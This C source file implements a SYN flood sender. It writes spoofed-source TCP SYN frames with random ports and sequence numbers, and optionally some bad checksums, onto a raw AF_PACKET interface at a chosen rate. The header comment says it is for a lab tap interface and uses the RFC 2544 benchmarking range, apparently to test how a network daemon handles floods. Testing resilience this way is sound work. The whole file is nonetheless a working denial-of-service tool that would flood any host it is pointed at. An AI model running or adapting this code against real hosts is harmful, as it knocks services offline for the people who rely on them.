/*
 * synflood_send.c - a SYN flood as an attacker sends it: spoofed sources,
 * random ports and sequence numbers, one SYN in N with a bad checksum,
 * written as whole Ethernet frames onto an interface with an AF_PACKET
 * socket (on the kernel's side of tap0 they go straight to tapnetd).
 * Paced to a rate; prints what it managed.
 *
 *   synflood_send IFACE DST_MAC DST_IP DST_PORT RATE SECONDS [BAD_EVERY]
 *
 * Sources are drawn from 198.18.0.0/15 (RFC 2544's benchmarking range):
 * off the link, so the SYN-ACKs go to the gateway (the kernel's side),
 * which drops them, as the Internet would lose them.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FRAME_LEN (14 + 20 + 24)
#define BATCH 64

static uint64_t rng = 0x9e3779b97f4a7c15ull;
static uint32_t next_rand(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (uint32_t)(rng >> 16);
}

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint16_t csum(uint32_t sum, const uint8_t *p, size_t len)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (len & 1)
		sum += (uint32_t)(p[len - 1] << 8);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, (uint16_t)(v >> 16)); put16(p + 2, (uint16_t)v); }

static void build(uint8_t *f, const uint8_t dmac[6], const uint8_t smac[6], uint32_t dst,
		  uint16_t dport, uint16_t ip_id, int bad)
{
	uint32_t src = 0xc6120000u | (next_rand() & 0x1ffff); /* 198.18.0.0/15 */
	memcpy(f, dmac, 6);
	memcpy(f + 6, smac, 6);
	put16(f + 12, 0x0800);
	uint8_t *ip = f + 14, *tcp = ip + 20;
	memset(ip, 0, 20);
	ip[0] = 0x45;
	put16(ip + 2, 20 + 24);
	put16(ip + 4, ip_id);
	put16(ip + 6, 0x4000);
	ip[8] = 64;
	ip[9] = 6;
	put32(ip + 12, src);
	put32(ip + 16, dst);
	put16(ip + 10, csum(0, ip, 20));
	memset(tcp, 0, 24);
	put16(tcp, (uint16_t)(1024 + next_rand() % 64000));
	put16(tcp + 2, dport);
	put32(tcp + 4, next_rand() << 16 ^ next_rand());
	tcp[12] = 6 << 4;
	tcp[13] = 0x02;
	put16(tcp + 14, 64240);
	tcp[20] = 2, tcp[21] = 4;
	put16(tcp + 22, 1460);
	uint32_t pseudo = (src >> 16) + (src & 0xffff) + (dst >> 16) + (dst & 0xffff) + 6 + 24;
	uint16_t sum = csum(pseudo, tcp, 24);
	put16(tcp + 16, bad ? (uint16_t)(sum ^ 0x5a5a) : sum);
}

int main(int argc, char **argv)
{
	if (argc < 7) {
		fprintf(stderr, "usage: %s IFACE DST_MAC DST_IP DST_PORT RATE SECONDS [BAD_EVERY]\n", argv[0]);
		return 2;
	}
	uint8_t dmac[6], smac[6];
	struct in_addr dst;
	if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &dmac[0], &dmac[1], &dmac[2], &dmac[3],
		   &dmac[4], &dmac[5]) != 6 || inet_pton(AF_INET, argv[3], &dst) != 1) {
		fprintf(stderr, "bad MAC or address\n");
		return 2;
	}
	uint16_t dport = (uint16_t)atoi(argv[4]);
	double rate = atof(argv[5]), seconds = atof(argv[6]);
	unsigned bad_every = argc > 7 ? (unsigned)atoi(argv[7]) : 0;

	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
	if (fd < 0) {
		perror("socket(AF_PACKET)");
		return 1;
	}
	struct ifreq ifr = {0};
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", argv[1]);
	if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) {
		perror(argv[1]);
		return 1;
	}
	struct ifreq hw = {0};
	snprintf(hw.ifr_name, sizeof(hw.ifr_name), "%s", argv[1]);
	if (ioctl(fd, SIOCGIFHWADDR, &hw) < 0) {
		perror("SIOCGIFHWADDR");
		return 1;
	}
	memcpy(smac, hw.ifr_hwaddr.sa_data, 6);
	struct sockaddr_ll sll = {
		.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = ifr.ifr_ifindex,
		.sll_halen = 6,
	};
	memcpy(sll.sll_addr, dmac, 6);

	static uint8_t frames[BATCH][FRAME_LEN];
	struct iovec iov[BATCH];
	struct mmsghdr msgs[BATCH];
	for (int i = 0; i < BATCH; i++) {
		iov[i] = (struct iovec){frames[i], FRAME_LEN};
		msgs[i] = (struct mmsghdr){.msg_hdr = {.msg_name = &sll, .msg_namelen = sizeof(sll),
						       .msg_iov = &iov[i], .msg_iovlen = 1}};
	}
	uint64_t sent = 0, errors = 0, n = 0;
	double start = now_s(), end = start + seconds, t;
	while ((t = now_s()) < end) {
		uint64_t due = (uint64_t)((t - start) * rate);
		if (sent + errors >= due) {
			struct timespec nap = {0, 200000};
			nanosleep(&nap, NULL);
			continue;
		}
		int k = (int)((due - sent - errors) < BATCH ? (due - sent - errors) : BATCH);
		for (int i = 0; i < k; i++, n++)
			build(frames[i], dmac, smac, dst.s_addr ? ntohl(dst.s_addr) : 0, dport,
			      (uint16_t)n, bad_every && n % bad_every == 0);
		int r = sendmmsg(fd, msgs, (unsigned)k, 0);
		if (r < 0) {
			if (errno != ENOBUFS && errno != EAGAIN) {
				perror("sendmmsg");
				return 1;
			}
			errors += (uint64_t)k;
			continue;
		}
		sent += (uint64_t)r;
		errors += (uint64_t)(k - r);
	}
	double took = now_s() - start;
	printf("sent %llu SYNs in %.2f s: %.0f/s (send errors %llu)\n", (unsigned long long)sent, took,
	       (double)sent / took, (unsigned long long)errors);
	close(fd);
	return 0;
}
